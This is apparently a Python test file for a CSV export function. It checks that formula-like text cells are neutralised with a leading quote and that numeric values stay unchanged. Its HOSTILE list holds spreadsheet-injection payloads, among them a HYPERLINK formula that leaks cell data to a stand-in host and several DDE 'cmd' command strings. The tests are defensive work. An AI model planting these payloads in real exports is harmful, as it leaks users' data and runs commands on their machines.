"""CSV downloads: a cell from the data never runs as a spreadsheet formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import polars as pl

from lib import csv_export

HOSTILE = [
    '=HYPERLINK("http://ev.il/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_are_neutralised_with_a_quote():
    frame = pl.DataFrame({"coin": [*HOSTILE, "BTC", "a=b", None], "n": list(range(len(HOSTILE) + 3))})
    got = [r["coin"] for r in rows(csv_export.csv_text(frame))]
    assert got[: len(HOSTILE)] == ["'" + h for h in HOSTILE]  # before: written as they are
    assert got[len(HOSTILE) :] == ["BTC", "a=b", ""]  # an '=' inside, or a missing value, is left alone


def test_categorical_text_is_neutralised_too():
    frame = pl.DataFrame({"sym": ["=1+1", "ETH"]}, schema={"sym": pl.Categorical})
    assert [r["sym"] for r in rows(csv_export.csv_text(frame))] == ["'=1+1", "ETH"]


def test_negative_numbers_stay_numbers():
    frame = pl.DataFrame({"pnl": [-5.25, 3.0], "units": [-3, 4], "side": ["-", "B"]})
    text = csv_export.csv_text(frame)
    assert text.splitlines()[1].startswith("-5.25,-3,")  # numbers untouched
    assert [r["side"] for r in rows(text)] == ["'-", "B"]  # a text cell is text
